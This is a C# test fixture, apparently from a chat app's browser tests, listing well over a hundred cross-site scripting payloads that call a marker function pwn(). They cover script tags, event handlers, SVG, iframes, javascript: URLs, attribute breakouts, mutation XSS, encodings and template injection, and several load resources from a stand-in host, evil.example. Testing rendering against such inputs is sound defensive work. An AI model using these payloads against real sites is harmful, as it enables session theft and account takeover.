namespace MarketChat.Tests.Browser;

/// <summary>
/// Texts that would call <c>pwn()</c> if any part of a page treated them as more than text. The techniques are those of the OWASP XSS
/// filter evasion cheat sheet and PortSwigger's XSS cheat sheet; the texts are our own.
/// </summary>
internal static class Injections
{
    public static readonly string[] All =
    [
        // Script elements and obfuscated script elements.
        "<script>pwn()</script>", "<SCRIPT>pwn()</SCRIPT>", "<ScRiPt >pwn()</ScRiPt >", "<script\t>pwn()</script\n>",
        "<script/x>pwn()</script>", "<script src=//evil.example/x.js></script>", "<script src=data:,pwn()></script>",
        "<script type=module>pwn()</script>", "<script type=importmap>{}</script>", "<scr<script>ipt>pwn()</script>",
        "<<script>pwn()//<</script>", "<script>pwn()", "</script><script>pwn()</script>", "<script nonce=a>pwn()</script>",
        "<script async src=data:text/javascript,pwn()>", "<script>/*", "*/pwn()</script>",

        // Event handlers.
        "<img src=x onerror=pwn()>", "<img src onerror=pwn()>", "<IMG SRC=x OnErRoR=pwn()>", "<img/src=x/onerror=pwn()>",
        "<img src='x'onerror='pwn()'>", "<img src=x onerror=\"&#112;wn()\">", "<image src=x onerror=pwn()>",
        "<body onload=pwn()>", "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()>", "<textarea autofocus onfocus=pwn()>",
        "<details open ontoggle=pwn()>x</details>", "<video src=x onerror=pwn()>", "<audio src=x onerror=pwn()>",
        "<video><source onerror=pwn()></video>", "<marquee onstart=pwn()>x</marquee>", "<a tabindex=0 autofocus onfocus=pwn()>x</a>",
        "<p style=animation:a onanimationstart=pwn()>x", "<button popovertarget=p>x<p popover id=p onbeforetoggle=pwn()>",
        "<div onpointerrawupdate=pwn()>x</div>", "<b onmouseover=pwn()>x</b>", "<x contenteditable autofocus onfocus=pwn()>",
        "<keygen autofocus onfocus=pwn()>", "<style onload=pwn()></style>", "<link rel=stylesheet href=/css/base.css onload=pwn()>",

        // SVG and MathML.
        "<svg onload=pwn()>", "<svg/onload=pwn()>", "<svg><script>pwn()</script>", "<svg><script href=data:,pwn() />",
        "<svg><animate onbegin=pwn() attributeName=x>", "<svg><set onbegin=pwn() attributeName=x>",
        "<svg><a href=javascript:pwn()><text y=9>x</text></a>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwn()>#x\">",
        "<svg><foreignObject><img src=x onerror=pwn()>", "<math><mtext><img src=x onerror=pwn()>",
        "<math href=javascript:pwn()>x</math>", "<svg><style><img src=x onerror=pwn()></style>",

        // Embedded documents.
        "<iframe src=javascript:pwn()>", "<iframe srcdoc=\"<script>parent.pwn()</script>\">", "<iframe onload=pwn()>",
        "<object data=javascript:pwn()>", "<object data=\"data:text/html,<script>pwn()</script>\">", "<embed src=javascript:pwn()>",
        "<frameset onload=pwn()>", "<applet code=x>", "<portal src=javascript:pwn()>", "<fencedframe>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=javascript:pwn()><button autofocus>x", "<form id=composer><input name=payload>",
        "<button formaction=javascript:pwn()>x", "<isindex action=javascript:pwn()>", "<dialog open onclose=pwn()>x",

        // URLs.
        "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "\u0001javascript:pwn()", "javascript&colon;pwn()",
        "javascript://example.com/%0apwn()", "data:text/html,<script>pwn()</script>", "vbscript:pwn()",
        "https://example.com/\"onmouseover=\"pwn()",
        "https://example.com/'onmouseover='pwn()", "https://example.com/><script>pwn()</script>",
        "https://example.com/#<img src=x onerror=pwn()>", "https://javascript:pwn()@example.com/",
        "https://example.com/`onmouseover=`pwn()", "<a href=javascript:pwn()>x</a>",
        "https://example.com/?q=\u2028pwn()", "http://\u0001.example/",

        // Breaking out of an attribute, a comment, a title, a text field.
        "\" onmouseover=\"pwn()", "' onmouseover='pwn()", "\" autofocus onfocus=\"pwn()\" x=\"", "' autofocus onfocus=pwn() x='",
        "\"><img src=x onerror=pwn()>", "'><img src=x onerror=pwn()>", "`><img src=x onerror=pwn()>", "--><img src=x onerror=pwn()>",
        "--!><img src=x onerror=pwn()>",
        "</title><img src=x onerror=pwn()>", "</textarea><img src=x onerror=pwn()>", "</style><img src=x onerror=pwn()>",
        "</template><img src=x onerror=pwn()>", "</noscript><img src=x onerror=pwn()>", "]]><img src=x onerror=pwn()>",
        "\\\"><img src=x onerror=pwn()>", "x\" style=\"animation:a\" onanimationend=\"pwn()",

        // Markup that changes its meaning when it is parsed twice (mutation XSS).
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<math><mi><mglyph><style><!--</style><img src=x onerror=pwn()>",
        "<svg></p><style><a id=\"</style><img src=x onerror=pwn()>\">", "<template><script>pwn()</script></template>",
        "<table><td><form><table><tr><form><img src=x onerror=pwn()>", "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\">", "<plaintext>",
        "<listing>&lt;img src=x onerror=pwn()&gt;</listing>", "<slot name=x><b slot=x onclick=pwn()>",

        // Style sheets.
        "<style>*{display:none!important}</style>", "<style>@import'//evil.example/x.css'</style>",
        "<p style=background:url(//evil.example/x)>x", "<p style=position:fixed;inset:0;z-index:99>x</p>", "}*{display:none}",
        "</style><style>body{width:9999px}</style>", "expression(pwn())",

        // Entities, encodings and characters.
        "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;script&#62;pwn()&#60;/script&#62;", "&#x3c;img src=x onerror=pwn()&#x3e;",
        "&amp;lt;script&amp;gt;pwn()", "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "\\x3cscript\\x3epwn()",
        "%3Cscript%3Epwn()%3C/script%3E", "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
        "＜script＞pwn()＜/script＞", "‹script›pwn()‹/script›", "<\u200bscript>pwn()</script>", "<scr\u00adipt>pwn()</script>",
        "\ufeff<script>pwn()</script>", "<img src=x onerror\u000c=pwn()>", "<img\u000bsrc=x onerror=pwn()>", "<ſcript>pwn()</ſcript>",
        "<ımg src=x onerror=pwn()>", "\u202e<script>pwn()</script>",
        "<a\u2028href=javascript:pwn()>x",

        // Templates.
        "{{constructor.constructor('pwn()')()}}", "{{pwn()}}", "${pwn()}", "#{pwn()}", "<%= pwn() %>", "@{pwn()}", "@(pwn())", "[[pwn()]]",
        "{%pwn()%}", "*{pwn()}", "{{{pwn()}}}", "`${pwn()}`", "');pwn();//", "\");pwn();//", "\\');pwn();//", "};pwn();{", "-pwn()-", "{0}",
        "__proto__", "constructor",
    ];
}
